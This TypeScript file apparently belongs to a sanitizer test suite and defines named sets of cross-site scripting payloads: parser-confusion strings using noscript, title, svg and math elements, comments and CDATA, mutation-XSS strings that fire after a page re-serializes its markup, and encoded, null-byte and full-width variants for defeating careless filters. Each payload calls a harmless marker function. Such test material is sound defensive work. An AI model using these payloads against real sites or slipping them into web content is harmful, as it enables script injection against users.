import type { Written } from "./trick.ts";

/** Texts in which a browser sees an element where others see none. */
export const parserTricks: Written = {
	"an attribute that ends a noscript": '<noscript><p title="</noscript><img src=x onerror=sprung({id})>"></noscript>',
	"an attribute that ends a title": '<title><p title="</title><img src=x onerror=sprung({id})>"></title>',
	"an attribute that ends a text field": '<textarea><p title="</textarea><img src=x onerror=sprung({id})>"></textarea>',
	"an attribute that ends an example": '<xmp><p title="</xmp><img src=x onerror=sprung({id})>"></xmp>',
	"an attribute that ends a frame": '<iframe><p title="</iframe><img src=x onerror=sprung({id})>"></iframe>',
	"an attribute that ends a style": '<style><p title="</style><img src=x onerror=sprung({id})>"></style>',
	"a style that is none in a drawing": "<svg><style><img src=x onerror=sprung({id})></style></svg>",
	"a title in a drawing": "<svg><title><img src=x onerror=sprung({id})></title></svg>",
	"text of a formula": "<math><mtext><img src=x onerror=sprung({id})></mtext></math>",
	"a note to a formula":
		"<math><annotation-xml encoding='text/html'><img src=x onerror=sprung({id})></annotation-xml></math>",
	"a comment that ends at once": "<!--><img src=x onerror=sprung({id})>-->",
	"a comment that ends at once, with a dash": "<!---><img src=x onerror=sprung({id})>-->",
	"a comment that ends with an exclamation mark": "<!-- --!><img src=x onerror=sprung({id})> -->",
	"a comment that another program reads": "<!--[if IE]><!--><img src=x onerror=sprung({id})><!--<![endif]-->",
	"text of another kind": "<![CDATA[><img src=x onerror=sprung({id})>]]>",
	"an instruction": "<?xml ><img src=x onerror=sprung({id})>?>",
	"a declaration": "<!x><img src=x onerror=sprung({id})>",
	"an end that is none": "</ x><img src=x onerror=sprung({id})>",
	"text of a formula in TeX": "$\\text{<img src=x onerror=sprung({id})>}$",
	"a bracket too many": "<<img src=x onerror=sprung({id})>>",
	"a tag behind a sign that turns text": "\u202e<img src=x onerror=sprung({id})>\u202c",
};

/** Texts that are harmless until a page writes down what it has and reads it again. */
export const writtenAgainTricks: Written = {
	"a table in a formula": {
		text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=sprung({id})&gt;">',
		why: "browsers that write < in an attribute as it is, Chromium up to 137",
	},
	"a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=sprung({id})>",
	"a sign in a formula":
		'<math><mtext><table><mglyph><style><math><img title="</style><img src=x onerror=sprung({id})>">',
	"a list in a drawing": '<svg></p><style><a title="</style><img src=x onerror=sprung({id})>">',
};

/** Texts that a careless program makes one of these of. */
export const changedTricks = {
	"before-more": {
		"a tag that does not end": "<img src=x onerror=sprung({id})//",
		"an address that goes on over what follows": "<img src='/sprung/{id}?",
		"a handler that goes on over what follows": "<svg onload=sprung({id})//",
	},
	decoded: {
		"a tag in entities": "&lt;img src=x onerror=sprung({id})&gt;",
		"a tag in entities by their numbers": "&#60;img src=x onerror=sprung({id})&#x3e;",
	},
	"decoded-attribute": { "a quote in entities": "&quot; onmouseover=&quot;sprung({id})" },
	filtered: {
		"a script around a script": "<scr<script>ipt>sprung({id})</scr</script>ipt>",
	},
	folded: {
		"a script in letters of full width": "＜script＞sprung({id})＜/script＞",
		"a script in small letters": "﹤script﹥sprung({id})﹤/script﹥",
	},
	"without-nulls": {
		"a script with a null": "<scr\u0000ipt>sprung({id})</scr\u0000ipt>",
		"a handler with a null": "<img src=x on\u0000error=sprung({id})>",
	},
} satisfies Record<string, Written>;
